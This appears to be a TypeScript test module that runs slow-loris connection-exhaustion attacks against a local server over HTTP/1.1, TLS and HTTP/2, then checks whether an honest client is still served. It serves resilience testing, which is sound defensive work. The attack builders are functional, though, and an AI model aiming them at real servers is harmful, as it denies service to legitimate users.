/** Slow loris: visitors who hold connections by sending drop by drop, until others find no place. */
import { once } from "node:events";
import { get } from "node:https";
import { connect as connectTcp, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { connect as connectTls } from "node:tls";
import { attack, block, flag, frame, frameType } from "./frames.ts";

export interface SlowTarget {
  readonly port: number;
  readonly host: string;
}

export interface SlowAttack {
  readonly name: string;
  readonly open: (target: SlowTarget) => Promise<SlowVisitor>;
}

export interface SlowVisitor {
  readonly socket: Socket;
  /** What is sent in each second. */
  readonly drop: () => Buffer | string;
}

/** @param start sent at once */
export async function openHttp1({ port, host }: SlowTarget, start: string): Promise<SlowVisitor> {
  const socket = connectTls({ host: "127.0.0.1", port, servername: host, rejectUnauthorized: false });
  socket.on("error", () => undefined).resume();
  await Promise.race([once(socket, "secureConnect"), once(socket, "close")]);
  socket.write(start);
  return { socket, drop: () => "y" };
}

export const slowAttacks: readonly SlowAttack[] = [
  { name: "a head of HTTP/1.1", open: (target) => openHttp1(target, `GET / HTTP/1.1\r\nhost: ${target.host}\r\nx: `) },
  {
    name: "a body of HTTP/1.1",
    open: (target) => openHttp1(target, `POST / HTTP/1.1\r\nhost: ${target.host}\r\ncontent-length: 100000\r\n\r\n`),
  },
  {
    name: "a TLS handshake",
    open: async ({ port }) => {
      const socket = connectTcp(port, "127.0.0.1");
      socket.on("error", () => undefined).resume();
      const hello = Buffer.concat([Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]), Buffer.alloc(500)]);
      let at = 0;
      return { socket, drop: () => hello.subarray(at, ++at) };
    },
  },
  {
    name: "no request of HTTP/2, but PINGs",
    open: async ({ port, host }) => {
      const { socket } = await attack(port, host);
      return { socket, drop: () => frame(frameType.ping, 0, 0, Buffer.alloc(8)) };
    },
  },
  {
    name: "a body of HTTP/2",
    open: async ({ port, host }) => {
      const { socket } = await attack(port, host);
      const fields = [
        [":method", "POST"],
        [":scheme", "https"],
        [":path", "/"],
        [":authority", host],
        ["content-length", "100000"],
      ] as const;
      socket.write(frame(frameType.headers, flag.endHeaders, 1, block(fields)));
      return { socket, drop: () => frame(frameType.data, 0, 1, Buffer.from("z")) };
    },
  },
];

/**
 * Takes all places of a target and holds them.
 * @param places that an address has there
 * @param seconds how long it is tried
 * @returns how it succeeded; undefined when an honest visitor of the same address was served meanwhile
 */
export async function holdPlaces(
  target: SlowTarget,
  { open }: SlowAttack,
  places: number,
  seconds: number,
): Promise<string | undefined> {
  if (!(await isServed(target))) throw new Error("nobody is served even without an attack");
  const held = await Promise.all(Array.from({ length: places }, () => open(target)));
  const timer = setInterval(() => {
    for (const { socket, drop } of held) if (!socket.destroyed) socket.write(drop());
  }, 1_000);
  try {
    if (await isServed(target)) throw new Error("the attack does not take all places");
    const end = performance.now() + seconds * 1000;
    while (performance.now() < end) {
      if (await isServed(target)) return undefined;
      await sleep(2_000);
    }
    return `nobody else was served for ${seconds} s`;
  } finally {
    clearInterval(timer);
    for (const { socket } of held) socket.destroy();
  }
}

function isServed({ port, host }: SlowTarget): Promise<boolean> {
  return new Promise((resolve) => {
    const options = { host: "127.0.0.1", port, servername: host, headers: { host }, rejectUnauthorized: false };
    const visit = get({ ...options, agent: false, timeout: 20_000 }, (answer) => {
      answer.resume().once("end", () => resolve(answer.statusCode === 200));
      answer.once("error", () => resolve(false));
    });
    visit.once("timeout", () => visit.destroy());
    visit.once("error", () => resolve(false));
    visit.once("close", () => resolve(false));
  });
}
